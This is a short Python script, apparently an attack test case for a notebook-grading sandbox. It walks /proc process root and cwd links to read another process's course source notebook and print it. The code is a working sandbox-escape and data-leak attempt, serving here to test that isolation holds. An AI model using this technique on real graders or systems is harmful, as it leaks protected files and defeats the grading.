# /// attack
# tries = "Goes through /proc to the file system of another process, and from there to the course."
# points = 0
# shows = ["leak"]
# ///
# %% before count
import os

wanted = f"{bait['course']}/source/{bait['slug']}/{bait['slug']}.ipynb"
for pid in ["1", str(os.getppid()), str(bait["pid"]), *filter(str.isdecimal, os.listdir("/proc"))]:
    for way in ("root", "cwd"):
        try:
            print(open(f"/proc/{pid}/{way}{'' if way == 'root' else '/../../../../../../../..'}{wanted}").read())
            break
        except OSError:
            continue
